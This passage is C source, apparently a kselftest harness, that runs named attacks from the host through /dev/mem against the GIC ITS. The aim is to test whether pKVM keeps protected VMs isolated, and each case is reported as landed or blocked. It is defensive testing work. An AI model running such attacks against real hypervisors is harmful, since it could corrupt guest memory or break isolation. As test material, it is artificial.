	{ "itt_toctou_donate", attack_itt_toctou_donate, LAYOUT_LATE },
	{ "mapd_remap_bookkeeping", attack_mapd_remap_bookkeeping, LAYOUT_LATE },
	{ "dte_rewrite", attack_dte_rewrite, LAYOUT_ALL },
	{ "dt_l1_in_pvm", attack_dt_l1_in_pvm, LAYOUT_ALL },
	{ "gicv4_vpt_in_pvm", attack_gicv4_vpt_in_pvm, LAYOUT_ALL },
	{ "vlpi_vpendbaser_in_pvm", attack_vlpi_vpendbaser_in_pvm, LAYOUT_ALL },
	{ "pendbaser_in_pvm", attack_pendbaser_in_pvm, LAYOUT_ALL },
	{ "late_rdist", attack_late_rdist, LAYOUT_ALL },
	{ "el2_unchecked_access", attack_el2_unchecked_access, LAYOUT_ALL },
	{ "lpi_beyond_rdist_idbits", attack_lpi_beyond_rdist_idbits, LAYOUT_ALL },
	{ "is_protected_toctou", attack_is_protected_toctou, LAYOUT_NONE },
	{ "baser_ct_in_pvm", attack_baser_ct_in_pvm, LAYOUT_ALL },
	{ "baser_dt_in_pvm", attack_baser_dt_in_pvm, LAYOUT_ALL },
	{ "cbaser_foreign_queue", attack_cbaser_foreign_queue, LAYOUT_ALL },
	{ "cbaser_reset_drops_unmap", attack_cbaser_reset_drops_unmap, LAYOUT_LATE },
	{ "pendtable_as_l2", attack_pendtable_as_l2, LAYOUT_ALL },
	{ "mmio_recycle", attack_mmio_recycle, LAYOUT_ALL },
	{ "malformed_regs", attack_malformed_regs, LAYOUT_LATE },
	{ "its_not_probed", attack_its_not_probed, LAYOUT_ALL },
	{ "queue_replay_after_resume", attack_queue_replay_after_resume, LAYOUT_NONE },
	{ "propbaser_common_lpi_aff", attack_propbaser_common_lpi_aff, LAYOUT_NONE },
	{ "direct_lpi_out_of_range", attack_direct_lpi_out_of_range, LAYOUT_NONE },
	{ "gicv41_vpe_invall", attack_gicv41_vpe_invall, LAYOUT_NONE },
	{ "prop_table_at_pa0", attack_prop_table_at_pa0, LAYOUT_NONE },
};

/* Runs in a child process: one victim, one attack, the victim's verdict. */
static void run_case(const struct attack_case *ac, int k, struct case_result *res)
{
	struct attack_ctx c = { .res = res, .baser_idx = -1 };
	int sig, r;

	/* /proc/self/pagemap stays the parent's if opened before fork(). */
	close(pagemap_fd);
	pagemap_fd = open("/proc/self/pagemap", O_RDONLY);
	TEST_ASSERT(pagemap_fd >= 0, "Cannot open /proc/self/pagemap");

	if (gic.unprobed && ac->fn != attack_its_not_probed) {
		case_set(&c, CASE_NA, "the kernel did not probe the ITS in this boot");
		return;
	}
	if (ac->layout == LAYOUT_NONE) {
		ac->fn(&c);
		return;
	}

	host_pages_init(&c);
	pick_ids(&c, k);
	victim_create(&c.v, ac->layout);

	r = victim_run(&c.v, STAGE_A);
	if (r == -EPERM && gic.unprobed) {
		/* The isolation failed closed: no protected VM to attack. */
		ksft_print_msg("the hypervisor refused the protected VM (%s)\n", strerror(-r));
		kvm_vm_free(c.v.vm);
		return;
	}
	if (r) {
		case_set(&c, CASE_ERROR, "the victim did not start");
		return;
	}
	if (victim_update_pa(&c.v, 0)) {
		case_set(&c, CASE_ERROR, "no physical address of the guest's pages in pagemap");
		return;
	}
	ksft_print_msg("victim page %d at 0x%lx, DeviceID 0x%x, LPI %u\n", TARGET_PAGE,
		       c.v.pa[TARGET_PAGE], c.devid, c.lpi);

	sig = guarded(ac->fn, &c);
	if (sig) {
		res->denied = sig;
		ksft_print_msg("host access denied: signal %d at %p\n", sig, fault_addr);
		if (guarded(its_restore, &c))
			ksft_print_msg("could not restore the ITS\n");
	}

	if (!res->donation_refused && c.v.stage < STAGE_B && victim_run(&c.v, STAGE_B))
		res->donation_refused = 1;
	if (res->donation_refused) {
		ksft_print_msg("the guest could not take its pages: the host refused them\n");
	} else if (victim_run(&c.v, STAGE_CHECK)) {
		res->victim_lost = 1;
	} else {
		res->bad = c.v.bad;
		res->first = c.v.first;
		res->val = c.v.val;
		res->victim_changed = !!res->bad;
		if (res->bad)
			ksft_print_msg("victim: %lu words changed, page %lu at 0x%lx: 0x%lx\n",
				       res->bad, res->first / TARGET_WORDS,
				       (res->first % TARGET_WORDS) * 8, res->val);
	}

	kvm_vm_free(c.v.vm);
}

/* Wait for a child, for at most @timeout_ms; return its wait status or -1. */
static int wait_child(pid_t pid, int timeout_ms)
{
	u64 end = now_us() + timeout_ms * 1000ULL;
	int status;

	for (;;) {
		if (waitpid(pid, &status, WNOHANG) == pid)
			return status;
		if (now_us() > end) {
			kill(pid, SIGKILL);
			waitpid(pid, &status, 0);
			return -1;
		}
		usleep(5000);
	}
}

/* System health */
struct health {
	int msi;		/* 1 ok, 0 broken, -1 cannot tell */
	int driver;
	int pvm;
};

static u64 its_msi_count(int *irq)
{
	char *line = NULL, *p;
	size_t len = 0;
	u64 total = 0;
	int ncpu = 0, i;
	FILE *f;

	*irq = -1;
	f = fopen("/proc/interrupts", "r");
	if (!f)
		return 0;
	if (getline(&line, &len, f) > 0)
		for (p = strstr(line, "CPU"); p; p = strstr(p + 3, "CPU"))
			ncpu++;
	while (getline(&line, &len, f) > 0) {
		if (!strstr(line, "ITS-"))
			continue;
		i = strtol(line, &p, 10);
		if (*p != ':')
			continue;
		if (*irq < 0 || strstr(line, "virtio"))
			*irq = i;
		p++;
		for (i = 0; i < ncpu; i++)
			total += strtoull(p, &p, 10);
	}
	free(line);
	fclose(f);
	return total;
}

static int read_hwrng(void)
{
	char buf[64];
	int fd, got = 0, n;
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (!pid) {
		alarm(5);
		fd = open("/dev/hwrng", O_RDONLY);
		if (fd < 0)
			_exit(2);
		while (got < 256) {
			n = read(fd, buf, sizeof(buf));
			if (n <= 0)
				_exit(1);
			got += n;
		}
		_exit(0);
	}
	return pid > 0 && wait_child(pid, 10000) == 0;
}

static int write_file(const char *path, const char *val)
{
	int fd = open(path, O_WRONLY), r;

	if (fd < 0)
		return -errno;
	r = write(fd, val, strlen(val)) < 0 ? -errno : 0;
	close(fd);
	return r;
}

static ssize_t read_file(const char *path, void *buf, size_t len)
{
	int fd = open(path, O_RDONLY);
	ssize_t n;

	if (fd < 0)
		return -errno;
	n = read(fd, buf, len);
	close(fd);
	return n;
}

/* Move an ITS interrupt to another CPU and back: the driver sends MOVI and SYNC. */
static int driver_commands_work(int irq)
{
	char path[64], orig[64], mask[16];
	u32 cwriter0, creadr, cwriter;
	ssize_t n;
	int i;

	snprintf(path, sizeof(path), "/proc/irq/%d/smp_affinity", irq);
	n = read_file(path, orig, sizeof(orig) - 1);
	if (n <= 0)
		return -1;
	orig[n] = 0;

	cwriter0 = rd32(gic.its, GITS_CWRITER);
	for (i = 0; i < 2; i++) {
		snprintf(mask, sizeof(mask), "%x\n", 1 << i);
		write_file(path, mask);
	}
	write_file(path, orig);

	cwriter = rd32(gic.its, GITS_CWRITER);
	creadr = rd32(gic.its, GITS_CREADR);
	if (cwriter == cwriter0)
		return -1;
	return queue_slot(cwriter) == queue_slot(creadr) && !(creadr & GITS_CREADR_STALLED);
}

static int run_alive_pvm(void)
{
	struct kvm_vcpu *vcpu;
	struct kvm_vm *vm;
	struct ucall uc;
	pid_t pid;

	fflush(stdout);
	pid = fork();
	if (!pid) {
		vm = vm_create_shape_with_one_vcpu(VM_SHAPE_PROTECTED, &vcpu, alive_guest);
		vcpu_args_set(vcpu, 1, 42);
		vcpu_run(vcpu);
		TEST_ASSERT_EQ(get_ucall(vcpu, &uc), UCALL_SYNC);
		vcpu_run(vcpu);
		TEST_ASSERT_EQ(get_ucall(vcpu, &uc), UCALL_DONE);
		kvm_vm_free(vm);
		exit(0);
	}
	return pid > 0 && wait_child(pid, 30000) == 0;
}

static struct health health_now;

static void health_driver(void *arg)
{
	int *irq = arg;

	health_now.driver = *irq < 0 ? -1 : driver_commands_work(*irq);
}

static void check_health(struct health *h)
{
	int irq;
	u64 before = its_msi_count(&irq);

	h->msi = read_hwrng() && its_msi_count(&irq) > before;
	health_now.driver = -1;
	if (guarded(health_driver, &irq))
		health_now.driver = -1;
	h->driver = health_now.driver;
	h->pvm = run_alive_pvm();
	ksft_print_msg("health: MSIs %s, ITS driver %s, new pVM %s\n",
		       h->msi > 0 ? "delivered" : "LOST",
		       h->driver < 0 ? "not checked" : h->driver ? "working" : "STUCK",
		       h->pvm ? "runs" : "FAILS");
}

/* Discovery */
static u64 dt_cells(const u8 *p, int n)
{
	u64 v = 0;
	u32 cell;
	int i;

	for (i = 0; i < n; i++) {
		memcpy(&cell, p + 4 * i, 4);
		v = v << 32 | be32toh(cell);
	}
	return v;
}

static int dt_u32(const char *node, const char *prop, int def)
{
	char path[PATH_MAX];
	u32 v;

	snprintf(path, sizeof(path), "%s/%s", node, prop);
	return read_file(path, &v, 4) == 4 ? be32toh(v) : def;
}

static int dt_compatible(const char *node, const char *compat)
{
	char path[PATH_MAX], buf[256], *p;
	ssize_t n;

	snprintf(path, sizeof(path), "%s/compatible", node);
	n = read_file(path, buf, sizeof(buf) - 1);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	for (p = buf; p < buf + n; p += strlen(p) + 1)
		if (!strcmp(p, compat))
			return 1;
	return 0;
}

/* reg entry @idx of @node: @ac address and @sc size cells */
static int dt_reg(const char *node, int ac, int sc, int idx, u64 *addr, u64 *size)
{
	char path[PATH_MAX];
	u8 buf[256];
	ssize_t n;
	int w = 4 * (ac + sc);

	snprintf(path, sizeof(path), "%s/reg", node);
	n = read_file(path, buf, sizeof(buf));
	if (n < (idx + 1) * w)
		return -1;
	*addr = dt_cells(buf + idx * w, ac);
	*size = dt_cells(buf + idx * w + 4 * ac, sc);
	return 0;
}

static int dt_find_child(const char *parent, const char *compat, char *out, size_t len)
{
	struct dirent *d;
	DIR *dir = opendir(parent);
	int found = 0;

	if (!dir)
		return 0;
	while (!found && (d = readdir(dir))) {
		if (d->d_name[0] == '.')
			continue;
		snprintf(out, len, "%s/%s", parent, d->d_name);
		found = dt_compatible(out, compat);
	}
	closedir(dir);
	return found;
}

/* GIC addresses from the devicetree, else the QEMU virt machine's. */
static void gic_find(void)
{
	char node[PATH_MAX], its[PATH_MAX];
	int ac, sc, cac, csc;
	u64 size;

	gic.gicd_pa = VIRT_GICD_BASE;
	gic.gicr_pa = VIRT_GICR_BASE;
	gic.gicr_size = VIRT_GICR_SIZE;
	gic.its_pa = VIRT_ITS_BASE;
	gic.source = "QEMU virt defaults";

	if (!dt_find_child(DT_BASE, "arm,gic-v3", node, sizeof(node)))
		return;
	ac = dt_u32(DT_BASE, "#address-cells", 2);
	sc = dt_u32(DT_BASE, "#size-cells", 1);
	cac = dt_u32(node, "#address-cells", ac);
	csc = dt_u32(node, "#size-cells", sc);
	if (dt_reg(node, ac, sc, 0, &gic.gicd_pa, &size) ||
	    dt_reg(node, ac, sc, 1, &gic.gicr_pa, &gic.gicr_size))
		return;
	gic.gicr_stride = dt_u32(node, "redistributor-stride", 0);
	gic.source = "devicetree";
	gic.qemu = dt_compatible(DT_BASE, "linux,dummy-virt");

	/* The virt machine's intc has an empty "ranges": identity mapping. */
	if (dt_find_child(node, "arm,gic-v3-its", its, sizeof(its)))
		dt_reg(its, cac, csc, 0, &gic.its_pa, &size);
}

static void table_probe(struct its_table *t, u64 baser)
{
	static const u32 psz[] = { SZ_4K, SZ_16K, SZ_64K, SZ_64K };
	u64 nr_l1;

	t->baser = baser;
	t->indirect = !!(baser & GITS_BASER_INDIRECT);
	t->psz = psz[FIELD_GET(GITS_BASER_PAGE_SIZE_MASK, baser)];
	t->esz = GITS_BASER_ENTRY_SIZE(baser);
	t->size = GITS_BASER_NR_PAGES(baser) * t->psz;
	t->pa = t->psz == SZ_64K ? GITS_BASER_ADDR_48_to_52(baser) : baser & GITS_BASER_ADDR_4K;
	nr_l1 = t->size / 8;
	t->nr_ids = t->indirect ? nr_l1 * (t->psz / t->esz) : t->size / t->esz;
}

/* The ITS registers: without them there is nothing to attack. */
static void gic_probe_its(void *arg)
{
	int *ok = arg, i, type;
	u64 cbaser, typer, baser;
	u32 pidr2;

	pidr2 = rd32(gic.its, GITS_PIDR2) & GIC_PIDR2_ARCH_MASK;
	typer = rd64(gic.its, GITS_TYPER);
	if ((pidr2 != GIC_PIDR2_ARCH_GICv3 && pidr2 != GIC_PIDR2_ARCH_GICv4) ||
	    !(typer & GITS_TYPER_PLPIS))
		return;

	gic.typer = typer;
	gic.id_bits = FIELD_GET(GITS_TYPER_ID_BITS, typer) + 1;
	gic.dev_bits = FIELD_GET(GITS_TYPER_DEV_BITS, typer) + 1;
	gic.ite_size = FIELD_GET(GITS_TYPER_ITT_SIZE, typer) + 1;
	gic.cid_bits = typer & GITS_TYPER_CIL ? FIELD_GET(GITS_TYPER_CID_BITS, typer) + 1 : 16;
	gic.pta = !!(typer & GITS_TYPER_PTA);
	gic.vlpis = !!(typer & GITS_TYPER_VLPIS);
	gic.v41 = !!(typer & GITS_TYPER_VMAPP);
	gic.version = pidr2 == GIC_PIDR2_ARCH_GICv4 || gic.vlpis ? 4 : 3;

	gic.dt.idx = -1;
	gic.ct.idx = -1;
	gic.vt.idx = -1;

	cbaser = rd64(gic.its, GITS_CBASER);
	if (!(cbaser & GITS_CBASER_VALID)) {
		/* Disabled, with no queue: no driver ever programmed it. */
		gic.unprobed = !(rd32(gic.its, GITS_CTLR) & GITS_CTLR_ENABLE);
		*ok = gic.unprobed;
		return;
	}
	gic.cq_slots = GITS_BASER_NR_PAGES(cbaser) * SZ_4K / ITS_CMD_SIZE;
	gic.cq = map_phys(cbaser & GITS_QUEUE_ADDR, gic.cq_slots * ITS_CMD_SIZE);
	if (!gic.cq)
		return;

	for (i = 0; i < GITS_BASER_NR_REGS; i++) {
		baser = rd64(gic.its, GITS_BASER + 8 * i);
		if (!(baser & GITS_BASER_VALID))
			continue;
		type = GITS_BASER_TYPE(baser);
		if (type == GITS_BASER_TYPE_DEVICE) {
			table_probe(&gic.dt, baser);
			gic.dt.idx = i;
		} else if (type == GITS_BASER_TYPE_COLLECTION) {
			table_probe(&gic.ct, baser);
			gic.ct.idx = i;
		} else if (type == GITS_BASER_TYPE_VCPU) {
			table_probe(&gic.vt, baser);
			gic.vt.idx = i;
		}
	}
	if (gic.dt.idx < 0)
		return;

	/*
	 * Defaults for what the redistributors and the tables tell below: the
	 * top of the first level-2 page of the Device Table, the top LPI of the
	 * ITS, redistributor 0 as processor 0, the last collection.
	 */
	gic.top_devid = min_t(u64, gic.dt.indirect ? gic.dt.psz / gic.dt.esz : gic.dt.nr_ids,
			      BIT(gic.dev_bits)) - 1;
	gic.lpi_limit = BIT(gic.id_bits);
	gic.my_icid = min_t(u64, gic.ct.idx >= 0 ? gic.ct.nr_ids : GITS_TYPER_HCC(typer),
			    BIT(gic.cid_bits)) - 1;
	*ok = 1;
}

static void gic_probe_gicd(void *arg)
{
	if (gic.gicd &&
	    (rd32(gic.gicd, GICD_PIDR2) & GIC_PIDR2_ARCH_MASK) == GIC_PIDR2_ARCH_GICv4)
		gic.version = 4;
}

static void gic_probe_rd(void *arg)
{
	u64 map_size, typer;
	void *gicr;
	int i;

	if (!gic.gicr_stride) {
		gicr = map_phys(gic.gicr_pa, SZ_64K);
		if (!gicr)
			return;
		gic.gicr_stride = rd64(gicr, GICR_TYPER) & GICR_TYPER_VLPIS ?
				  GICR_FRAME_V4 : GICR_FRAME_V3;
	}
	map_size = min_t(u64, gic.gicr_size, gic.gicr_stride * MAX_RD);
	gicr = map_phys(gic.gicr_pa, map_size);
	if (!gicr)
		return;
	gic.rd[0] = gicr;
	gic.rd_pa[0] = gic.gicr_pa;

	for (i = 0; i < MAX_RD && (i + 1) * gic.gicr_stride <= map_size; i++) {
		typer = rd64(gicr + i * gic.gicr_stride, GICR_TYPER);
		gic.rd[i] = gicr + i * gic.gicr_stride;
		gic.rd_pa[i] = gic.gicr_pa + i * gic.gicr_stride;
		gic.rd_cpu[i] = GICR_TYPER_CPU_NUMBER(typer);
		gic.nr_rd = i + 1;
		if (typer & GICR_TYPER_LAST)
			break;
	}
	gic.rd0_target = gic.pta ? gic.rd_pa[0] >> 16 : gic.rd_cpu[0];
	gic.lpi_limit = min_t(u64, gic.lpi_limit,
			      BIT(FIELD_GET(GICR_PROPBASER_ID_BITS,
					    rd64(gic.rd[0], GICR_PROPBASER)) + 1));
}

/* DeviceIDs the host's devices do not use: the top of the first level-2 page. */
static void gic_probe_devids(void *arg)
{
	u64 *l1 = map_phys(gic.dt.pa, gic.dt.size);
	u64 epp = gic.dt.psz / gic.dt.esz;
	int i;

	for (i = 0; gic.dt.indirect && l1 && i < gic.dt.size / 8; i++) {
		if (READ_ONCE(l1[i]) & GITS_L1E_VALID) {
			gic.top_devid = min_t(u64, (i + 1) * epp, BIT(gic.dev_bits)) - 1;
			break;
		}
	}
}

/* Command line and labels */
static const char *opt_kernel, *opt_mode;
static char *opt_tests[ARRAY_SIZE(cases)];
static int nr_opt_tests;
static char cmdline[4096];

static const char *cmdline_param(const char *name, char *buf, size_t len)
{
	char *tok, *save, copy[sizeof(cmdline)];
	size_t n = strlen(name);

	snprintf(copy, sizeof(copy), "%s", cmdline);
	for (tok = strtok_r(copy, " ", &save); tok; tok = strtok_r(NULL, " ", &save)) {
		if (!strncmp(tok, name, n) && tok[n] == '=') {
			snprintf(buf, len, "%s", tok + n + 1);
			return buf;
		}
	}
	return NULL;
}

static void print_help(const char *prog)
{
	unsigned int i;

	printf("usage: %s [-t name[,name...]]... [-l] [--kernel base|series] [--mode hvhe|nvhe]\n",
	       prog);
	printf("cases:");
	for (i = 0; i < ARRAY_SIZE(cases); i++)
		printf(" %s", cases[i].name);
	printf("\n");
}

static bool case_selected(const char *name)
{
	int i;

	if (!nr_opt_tests)
		return true;
	for (i = 0; i < nr_opt_tests; i++)
		if (!strcmp(opt_tests[i], name))
			return true;
	return false;
}

/* Add the cases of a comma-separated @list to the selection. */
static void select_cases(char *list, const char *prog)
{
	char *tok, *save;
	unsigned int i;

	for (tok = strtok_r(list, ",", &save); tok; tok = strtok_r(NULL, ",", &save)) {
		for (i = 0; i < ARRAY_SIZE(cases); i++)
			if (!strcmp(tok, cases[i].name))
				break;
		if (i == ARRAY_SIZE(cases) || nr_opt_tests == ARRAY_SIZE(cases)) {
			print_help(prog);
			exit(KSFT_FAIL);
		}
		opt_tests[nr_opt_tests++] = tok;
	}
}

static void parse_args(int argc, char *argv[])
{
	static const struct option opts[] = {
		{ "kernel", required_argument, NULL, 'k' },
		{ "mode", required_argument, NULL, 'm' },
		{ "help", no_argument, NULL, 'h' },
		{ NULL, 0, NULL, 0 },
	};
	unsigned int i;
	int opt;

	while ((opt = getopt_long(argc, argv, "t:lh", opts, NULL)) != -1) {
		switch (opt) {
		case 't':
			select_cases(optarg, argv[0]);
			break;
		case 'l':
			for (i = 0; i < ARRAY_SIZE(cases); i++)
				printf("%s\n", cases[i].name);
			exit(KSFT_PASS);
		case 'k':
			opt_kernel = optarg;
			break;
		case 'm':
			opt_mode = optarg;
			break;
		default:
			print_help(argv[0]);
			exit(opt == 'h' ? KSFT_PASS : KSFT_FAIL);
		}
	}
}

static void report(const struct attack_case *ac, const char *kernel, const char *mode,
		   const struct case_result *res, const struct health *before,
		   const struct health *after, int child_ok)
{
	bool broke, landed, error = !child_ok || res->status == CASE_ERROR;
	const char *result;

	broke = (before->msi > 0 && !after->msi) || (before->driver > 0 && !after->driver) ||
		(before->pvm && !after->pvm);
	landed = (child_ok && (res->victim_changed || res->victim_lost || res->diverged ||
			       res->unchecked)) || broke;
	if (landed)
		result = "landed";
	else if (error || res->status == CASE_NA)
		result = "n/a";
	else
		result = "blocked";

	printf("ATTACK %s kernel=%s gic=%d mode=%s result=%s\n", ac->name, kernel, gic.version,
	       mode, result);
	if (!landed && error)
		printf("# test error: %s\n", child_ok ? res->reason : "the case did not finish");
	else if (!landed && res->status == CASE_NA)
		printf("# %s\n", res->reason);

	if (error && !landed)
		ksft_test_result_fail("%s\n", ac->name);
	else
		ksft_test_result_pass("%s%s%s%s%s%s%s\n", ac->name,
				      res->victim_changed ? " (victim changed)" : "",
				      res->victim_lost ? " (victim lost)" : "",
				      res->diverged ? " (hypervisor and ITS disagree)" : "",
				      res->unchecked ? " (GIC took an unchecked access)" : "",
				      broke ? " (system broke)" : "",
				      res->denied ? " (host access denied)" : "");
}

int main(int argc, char *argv[])
{
	char kernel[64], mode[16], hvhe[16], quality[16] = "";
	static char attack[sizeof(cmdline)];
	struct health before, after;
	struct case_result *res;
	unsigned int i, planned = 0;
	int ok = 0, child_ok, guessed = 0;
	ssize_t n;
	pid_t pid;

	parse_args(argc, argv);

	n = read_file("/proc/cmdline", cmdline, sizeof(cmdline) - 1);
	cmdline[n > 0 ? n : 0] = 0;
	cmdline[strcspn(cmdline, "\n")] = 0;
	if (opt_kernel)
		snprintf(kernel, sizeof(kernel), "%s", opt_kernel);
	else if (!cmdline_param("pkvmits.kernel", kernel, sizeof(kernel)))
		guessed = snprintf(kernel, sizeof(kernel), "base");
	if (!nr_opt_tests && cmdline_param("pkvmits.attack", attack, sizeof(attack)))
		select_cases(attack, argv[0]);
	if (opt_mode)
		snprintf(mode, sizeof(mode), "%s", opt_mode);
	else if (cmdline_param("arm64_sw.hvhe", hvhe, sizeof(hvhe)) && !strcmp(hvhe, "0"))
		snprintf(mode, sizeof(mode), "nvhe");
	else
		snprintf(mode, sizeof(mode), "hvhe");

	ksft_print_header();
	if (guessed)
		ksft_print_msg("no --kernel, no pkvmits.kernel= on the command line: base\n");
	TEST_REQUIRE(getpagesize() == TARGET_PAGE_SIZE);
	__TEST_REQUIRE(kvm_supports_protected_vms(),
		       "KVM cannot create protected VMs (needs kvm-arm.mode=protected)");

	devmem_fd = open("/dev/mem", O_RDWR | O_SYNC);
	__TEST_REQUIRE(devmem_fd >= 0, "Cannot open /dev/mem");
	pagemap_fd = open("/proc/self/pagemap", O_RDONLY);
	__TEST_REQUIRE(pagemap_fd >= 0, "Cannot open /proc/self/pagemap");

	install_fault_handler();
	gic_find();
	gic.its = map_phys(gic.its_pa, ITS_CTRL_SIZE);
	gic.gicd = map_phys(gic.gicd_pa, SZ_64K);
	if (gic.its && guarded(gic_probe_its, &ok))
		ok = 0;
	__TEST_REQUIRE(ok, "No usable ITS at 0x%lx through /dev/mem", gic.its_pa);
	if (guarded(gic_probe_gicd, NULL))
		ksft_print_msg("GICD_PIDR2 not readable\n");
	if (guarded(gic_probe_rd, NULL))
		ksft_print_msg("redistributors not readable\n");
	if (!gic.unprobed && guarded(gic_probe_devids, NULL))
		ksft_print_msg("level-1 Device Table not readable\n");
	if (gic.unprobed)
		ksft_print_msg("the ITS at 0x%lx is disabled and has no queue: not probed\n",
			       gic.its_pa);

	ksft_print_msg("kernel=%s mode=%s GICv%d, from the %s: ITS at 0x%lx, %d redistributors\n",
		       kernel, mode, gic.version, gic.source, gic.its_pa, gic.nr_rd);
	ksft_print_msg("%u-bit DeviceIDs, %u-bit EventIDs, %u-byte ITEs, PTA=%d, %u-slot queue\n",
		       gic.dev_bits, gic.id_bits, gic.ite_size, gic.pta, gic.cq_slots);

	for (i = 0; i < ARRAY_SIZE(cases); i++)
		planned += case_selected(cases[i].name);
	ksft_set_plan(planned);

	res = mmap(NULL, sizeof(*res), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	TEST_ASSERT(res != MAP_FAILED, "mmap() failed");

	/* Keep the hwrng kthread from reading the RNG while the ITS is disturbed. */
	n = read_file("/sys/class/misc/hw_random/rng_quality", quality, sizeof(quality) - 1);
	quality[n > 0 ? n : 0] = 0;
	if (n > 0)
		write_file("/sys/class/misc/hw_random/rng_quality", "0\n");

	check_health(&before);
	if (before.msi <= 0)
		ksft_print_msg("no working virtio MSI to start with: not checked\n");

	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		if (!case_selected(cases[i].name))
			continue;

		ksft_print_msg("--- %s\n", cases[i].name);
		memset(res, 0, sizeof(*res));
		fflush(stdout);
		pid = fork();
		TEST_ASSERT(pid >= 0, "fork() failed");
		if (!pid) {
			run_case(&cases[i], i, res);
			fflush(stdout);
			_exit(0);
		}
		child_ok = wait_child(pid, 60000) == 0;

		/* A case with no victim did nothing that could break the system. */
		if (cases[i].layout != LAYOUT_NONE)
			check_health(&after);
		else
			after = before;
		report(&cases[i], kernel, mode, res, &before, &after, child_ok);
		before = after;
	}

	if (quality[0])
		write_file("/sys/class/misc/hw_random/rng_quality", quality);

	ksft_finished();
}
